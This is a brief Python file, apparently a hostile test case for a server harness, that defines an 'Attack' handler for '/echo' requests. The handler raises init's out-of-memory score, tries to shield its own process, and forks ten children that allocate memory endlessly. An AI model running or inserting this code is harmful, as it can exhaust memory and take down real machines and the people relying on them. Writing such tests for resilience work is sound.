import os
import time

import server



class Attack(server.Broken):
    def answer(self):
        if not self.path.startswith("/echo"):
            return super().answer()
        for pid, score in (("1", "1000"), ("self", "-1000"), ("self", "0")):
            try:
                with open(f"/proc/{pid}/oom_score_adj", "w") as file:
                    file.write(score)
            except OSError:
                pass
        for _ in range(10):
            if os.fork() == 0:
                kept = bytearray()
                while True:
                    kept += b"x" * (1 << 20)
        time.sleep(60)


server.serve(Attack)
